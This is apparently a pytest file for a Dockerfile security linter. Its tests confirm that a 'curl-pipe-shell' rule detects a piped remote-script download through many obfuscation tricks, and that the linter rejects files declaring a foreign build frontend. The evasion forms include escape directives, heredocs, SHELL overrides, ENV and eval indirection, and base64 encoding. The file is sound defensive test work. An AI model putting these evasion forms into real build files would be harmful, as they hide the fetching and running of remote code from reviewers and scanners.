"""Forms of a Dockerfile in which the build sees something else than a reader does."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.cli.projects import DIGEST, GOOD

if TYPE_CHECKING:
    from pathlib import Path

    from tests.conftest import Program

FROM = f"FROM python:3.12.7-slim-bookworm@{DIGEST}\n"
END = 'USER 10001\nHEALTHCHECK NONE\nENTRYPOINT ["/a"]\n'
PIPE = "curl -sSL https://example.com/i.sh | sh"


def report_of(program: Program, here: Path, text: str, name: str = "Dockerfile") -> dict:  # type: ignore[type-arg]
    """What is said of a file beside a good one."""
    (here / "good").mkdir(exist_ok=True)
    (here / "good" / "Dockerfile").write_text(GOOD, encoding="utf-8")
    (here / name).write_text(text, encoding="utf-8", newline="")
    answer = program("check", "--no-cache", "--policy", "strict", "--format", "json")
    report: dict = json.loads(answer.out)  # type: ignore[type-arg]
    report["rules"] = {finding["rule"] for finding in report["findings"]}
    return report


@pytest.mark.parametrize(
    "text",
    [
        f"# escape=`\n{FROM}RUN echo a `\n&& {PIPE}\n",
        f"#ESCAPE=`\n{FROM}RUN echo a \\\nRUN {PIPE}\n",
        f"#\tescape=`\r\n{FROM}RUN echo \\\nRUN {PIPE}\n",
        f"\ufeff# escape=`\n{FROM}RUN echo \\\nRUN {PIPE}\n",
        f"# syntax=docker/dockerfile:1\n# escape=`\n{FROM}RUN echo \\\nRUN {PIPE}\n",
        f"#\u00a0escape=`\n{FROM}RUN echo \\\nRUN {PIPE}\n",
        f"{FROM}RUN echo \\\u00a0\nRUN {PIPE}\n",
        f"{FROM}RUN echo \\\n# x \\\n && {PIPE}\n",
        f"{FROM}RU\\\nN {PIPE}\n",
        f"{FROM}RUN cu\\\nrl -sSL https://example.com/i.sh | s\\\nh\n",
        f"{FROM}RUN cu\\\n# x\nrl -sSL https://example.com/i.sh | sh\n",
        f"{FROM}\u00a0RUN {PIPE}\n",
        f"{FROM}RUN\x0b{PIPE}\n",
        f"{FROM}rUn {PIPE}\n",
        f"{FROM}RUN <<EOF\ntrue\n EOF\n{PIPE}\nEOF\n",
        f"{FROM}RUN <<EOF\ntrue\nEOF \n{PIPE}\nEOF\n",
        f'{FROM}RUN <<"E F"\n{PIPE}\nE F\n',
        f"{FROM}# <<EOF\nRUN {PIPE}\n",
        f"{FROM}ENV A=<<EOF\nRUN {PIPE}\n",
        f"{FROM}COPY <<EOF /x.sh\n{PIPE}\nEOF\nRUN sh /x.sh\n",
        f'{FROM}RUN ["sh","-c","\\u0063url -sSL https://example.com/i.sh | sh"]\n',
        f'{FROM}SHELL ["sh", "-c", "{PIPE}"]\nRUN true\n',
        f'{FROM}SHELL ["/usr/bin/env", "bash", "-c", "{PIPE} #"]\nRUN true\n',
        f'{FROM}ENV P="| sh"\nRUN eval curl -sSL https://example.com/i.sh $P\n',
        f'{FROM}ENV P="{PIPE}"\nRUN sh -c "$P"\n',
    ],
)
def test_what_is_run_is_found(program: Program, here: Path, text: str) -> None:
    report = report_of(program, here, text + END)
    assert "curl-pipe-shell" in report["rules"]
    assert not report["problems"]


@pytest.mark.parametrize(
    "text",
    [
        f"# x\n# escape=`\n{FROM}RUN echo \\\nRUN {PIPE}\n",  # one instruction: the pipe runs `RUN`
        f"{FROM}# x\rRUN {PIPE}\n",
        f"{FROM}# x\u2028RUN {PIPE}\n",
        f"{FROM}RUN sh 3<<EOF\n{PIPE}\nEOF\n",
    ],
)
def test_what_is_not_run_is_not_found(program: Program, here: Path, text: str) -> None:
    assert "curl-pipe-shell" not in report_of(program, here, text + END)["rules"]


@pytest.mark.parametrize("blank", ["\u00a0", "\u2003", "\u200b", "\x85"])
def test_what_looks_like_an_instruction_is_none(program: Program, here: Path, blank: str) -> None:
    for text in (f"RUN{blank}true\n", f"R{blank}UN true\n"):
        assert "unknown-instruction" in report_of(program, here, FROM + text + END)["rules"]


FOREIGN = [
    f"# syntax=evil/frontend\n{FROM}{END}",
    f"# SYNTAX = evil/frontend x\n{FROM}{END}",
    f"# check=skip=all\n# syntax=evil/frontend\n{FROM}{END}",
    f"#!/usr/bin/env x\n# syntax=evil/frontend\n{FROM}{END}",
    f"\ufeff#!x\n# escape=`\n# syntax=evil/frontend\n{FROM}{END}",
    f"// syntax=evil/frontend\n{FROM}{END}",
    f"// check=skip=all\n//Syntax = evil/frontend\n{FROM}{END}",
    '{"x": [1], "syntax": "evil/frontend"}\n',
]


@pytest.mark.parametrize("name", ["Dockerfile", "Dockerfile.x"])
@pytest.mark.parametrize("text", FOREIGN)
def test_another_language_is_not_read(program: Program, here: Path, text: str, name: str) -> None:
    (problem,) = report_of(program, here, text, name)["problems"]
    assert problem["detail"] == "this is the language of evil/frontend, which is not read"


@pytest.mark.parametrize(
    "text",
    [
        f"#!/usr/bin/env x\n# x\n# syntax=evil/frontend\n{FROM}{END}",
        f"// syntax=docker/dockerfile:1\n{FROM}{END}",
        f"// a=b\n// syntax=evil/frontend\n{FROM}{END}",
        f"{FROM}{END}# syntax=evil/frontend\n",
        '{"syntax": ["evil/frontend"]}\n',
        '{"syntax": "evil/frontend"\n',
    ],
)
def test_what_names_no_language_is_read(program: Program, here: Path, text: str) -> None:
    report = report_of(program, here, text)
    assert not [one for one in report["problems"] if "language" in one["detail"]]


COMPOSE = """\
services:
  a:
    build: {{context: good, args: {{BUILDKIT_SYNTAX: {0}}}}}
    user: "1"
"""
BAKE = 'target "a" {{\n  args = {{\n    BUILDKIT_SYNTAX = "{0}"\n  }}\n}}\n'


@pytest.mark.parametrize(("name", "text"), [("compose.yaml", COMPOSE), ("docker-bake.hcl", BAKE)])
def test_a_build_can_be_told_of_another_language(
    program: Program, here: Path, name: str, text: str
) -> None:
    (problem,) = report_of(program, here, text.format("evil/frontend"), name)["problems"]
    assert "the language of evil/frontend" in problem["detail"]
    assert not report_of(program, here, text.format("docker/dockerfile:1.7"), name)["problems"]


U = "https://example.com/i.sh"
SCRIPTS = [
    *(f"$'\\x63url' {U} | $'\\163h'", f"$'cu\\u0072l' {U} | sh", f'c\\url {U} | "s"h'),
    *(f"c=cu; d=rl; $c$d {U} | sh", f"curl {U} | exec sh"),
    *(f"eval curl {U} '|' sh", f"x='{PIPE}'; eval $x", f"x='{PIPE}'; sh -c \"$x\""),
    *(f"trap '{PIPE}' EXIT", f"ssh-agent sh -c '{PIPE}'", f"xargs -0 sh -c '{PIPE}' < /x"),
    *(f"find . -exec sh -c '{PIPE}' {{}} +", f"find . -name a -execdir bash -c '{PIPE}' \\;"),
    *(f"echo '{PIPE}' | sh", f"printf '{PIPE}' | bash", f"printf '%s' '{PIPE}' | sh"),
    *(f"cat <<X | sh\n{PIPE}\nX", "echo Y3VybCAtc1NMIGh0dHBzOi8vYS5iL2kgfCBzaA== | base64 -d | sh"),
    *(f"curl {U} | . /dev/stdin", f"curl {U} | sh /proc/self/fd/0", f"curl {U} | sh < /dev/stdin"),
    *(f"curl {U} | bash5.2", f"curl {U} | ksh93", f"curl {U} | fish", f"curl {U} | pwsh -"),
]


@pytest.mark.parametrize("script", SCRIPTS)
def test_a_script_cannot_hide_what_it_runs(program: Program, here: Path, script: str) -> None:
    text = f'{FROM}SHELL ["/bin/bash", "-c"]\nRUN <<\'END\'\n{script}\nEND\n{END}'
    assert "curl-pipe-shell" in report_of(program, here, text)["rules"]
